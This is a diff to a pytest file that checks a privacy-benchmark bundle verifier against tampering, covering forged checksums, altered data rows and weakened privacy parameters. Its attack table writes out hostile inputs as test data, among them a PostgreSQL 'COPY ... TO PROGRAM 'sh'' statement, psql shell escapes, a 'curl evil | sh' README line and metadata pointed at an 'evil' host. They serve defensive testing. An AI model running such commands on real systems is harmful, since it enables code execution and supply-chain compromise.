@@ -12,10 +12,11 @@ import pytest
 
 from privbench.errors import GateFailed
 from privbench.postgres.ddl import Ddl
-from privbench.publish import facts, verify
+from privbench.publish import verify
 from privbench.publish.checksums import MAX_TEXT, digest, sums_text, walk
+from privbench.publish.facts import Bundle, Certificate, parse
 from privbench.publish.scripts import rendered
-from privbench.workload import read as read_workload
+from privbench.workload import read
 
 
 def seal(folder):
@@ -23,6 +24,17 @@ def seal(folder):
     files = [path for path in walk(folder) if path != "SHA256SUMS"]
     sums = sums_text({path: digest(folder, path) for path in files})
     (folder / "SHA256SUMS").write_bytes(sums)
+
+
+def forge(folder):
+    """Scripts and metadata that fit the rows there are: what only a comparison of rows can tell."""
+    facts = parse(Bundle, (folder / "bundle.json").read_bytes())
+    paper = parse(Certificate, (folder / "certificate.json").read_bytes())
+    ddl = Ddl(*((folder / path).read_text() for path in (BEFORE, AFTER)))
+    rows = {path: digest(folder, path) for path in walk(folder) if path.startswith("data/")}
+    queries = read(folder / "workload/workload.json")
+    for path, text in rendered(facts, paper, ddl, queries, rows).items():
+        (folder / path).write_bytes(text)
 
 
 def refused(folder, *, sealed=True):
@@ -45,23 +57,11 @@ def test_a_bit_flipped_in_any_file_is_named(bundle):
         path.write_bytes(data[:place] + bytes([data[place] ^ (1 << bit)]) + data[place + 1 :])
         assert refused(bundle, sealed=False).startswith(name), (name, place, bit)
         path.write_bytes(data)
-    for name in files:
-        os.rename(bundle / name, bundle / "gone")
-        assert refused(bundle, sealed=False).startswith((name, "gone"))
-        os.rename(bundle / "gone", bundle / name)
+    for name in files[::4]:
+        os.rename(bundle / name, bundle.parent / "gone")
+        assert name in refused(bundle, sealed=False)
+        os.rename(bundle.parent / "gone", bundle / name)
     verify(bundle)
-
-
-def render_again(folder):
-    """The texts that follow from the facts and the rows, as a thorough forger writes them."""
-    about = facts.parse(facts.Bundle, (folder / FACTS).read_bytes())
-    certificate = facts.parse(facts.Certificate, (folder / PAPER).read_bytes())
-    ddl = Ddl((folder / BEFORE).read_text(), (folder / AFTER).read_text())
-    workload = read_workload(folder / facts.WORKLOAD, "native")
-    rows = [name for name in walk(folder) if name.startswith("data/")]
-    digests = {name: digest(folder, name) for name in rows}
-    for name, text in rendered(about, certificate, ddl, workload, digests).items():
-        (folder / name).write_bytes(text)
 
 
 def append(name, text):
@@ -112,39 +112,38 @@ def other_rows(folder):
     path = first_chunk(folder, "parquet")
     table = papq.read_table(path)
     papq.write_table(table.set_column(0, "id", pa.array([1] * len(table), pa.int32())), path)
+    forge(folder)
 
 
 def other_types(folder):
     path = first_chunk(folder, "parquet")
     table = papq.read_table(path)
     papq.write_table(table.set_column(0, "id", table["id"].cast(pa.int64())), path)
+    forge(folder)
 
 
 def garbage(folder):
     path = first_chunk(folder, "parquet")
     data = path.read_bytes()
     path.write_bytes(data[:200] + bytes(len(data) - 400) + data[-200:])
+    forge(folder)
 
 
 def forget_line(folder):
     path = first_chunk(folder, "csv")
     path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:-1]))
+    forge(folder)
 
 
 BEFORE, AFTER, FACTS, PAPER = (
     "schema/before.sql", "schema/after.sql", "bundle.json", "certificate.json",
 )  # fmt: skip
+# ruff: noqa: E501
 ATTACKS = {
     "an unknown file": (append("evil.sh", "x"), "evil.sh: unknown"),
     "a file among the rows": (append("data/public.customer/99999.csv", "x"), "99999.csv: unknown"),
-    "a program": (
-        append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"),
-        BEFORE,
-    ),
-    "a command": (
-        append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"),
-        "not allowed (CopyStmt)",
-    ),
+    "a program": (append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"), BEFORE),
+    "a command": (append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"), "not allowed (CopyStmt)"),
     "an end of the transaction": (append(AFTER, "COMMIT;\n"), "not allowed (TransactionStmt)"),
     "a block": (append(AFTER, "DO 'BEGIN END';\n"), "not allowed (DoStmt)"),
     "a command of psql": (append(AFTER, "\\! touch /tmp/x\n"), AFTER),
@@ -171,11 +170,8 @@ ATTACKS = {
     "a load": (append("load.sql", "\\! id\n"), "load.sql: not what privbench writes"),
     "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
     "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
-    "a certificate for people": (swap("certificate.md", "| ε | 30", "| ε | 1"), "certificate.md: "),
-    "metadata": (
-        swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'),
-        "croissant",
-    ),
+    "a certificate for people": (swap("certificate.md", "| ε | ", "| ε | 0."), "certificate.md: "),
+    "metadata": (swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'), "croissant"),
     "a smaller ε": (put(PAPER, "promise", "epsilon", value=1.0), "less is stated"),
     "a smaller δ": (put(PAPER, "promise", "delta", value=1e-12), "less is stated"),
     "less noise": (put(PAPER, "events", 0, "scale", value=0.01), "less than its mechanism loses"),
@@ -196,26 +192,25 @@ ATTACKS = {
         "workload/workload.json"),
     "a secret workload": (
         put("workload/workload.json", "confidential", value=True), "CONFIDENTIAL"),
+    "other rows in Parquet": (other_rows, "00001.parquet: its rows are not those"),
 }  # fmt: skip
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("change", "said"), [
+    (garbage, "00001.parquet: "),
+    (other_types, "00001.parquet: its columns"),
+    (forget_line, "00001.csv: it holds another number of rows"),
+])  # fmt: skip
+def test_rows_that_do_not_fit_their_facts_are_named(bundle, change, said):
+    change(bundle)
+    assert said in refused(bundle)
 
 
 @pytest.mark.parametrize("name", ATTACKS)
 def test_what_was_done_is_named(bundle, name):
     change, said = ATTACKS[name]
     change(bundle)
-    assert said in refused(bundle)
-
-
-@pytest.mark.parametrize(("change", "said"), [
-    (other_rows, "00001.parquet: its rows are not those"),
-    (other_types, "00001.parquet: its columns"),
-    (garbage, "00001.parquet: "),
-    (forget_line, "00001.csv: it holds another number of rows"),
-])  # fmt: skip
-def test_rows_that_were_changed_are_named_even_if_all_texts_fit_them(bundle, change, said):
-    change(bundle)
-    assert "not what privbench writes" in refused(bundle)
-    render_again(bundle)
     assert said in refused(bundle)
 
 
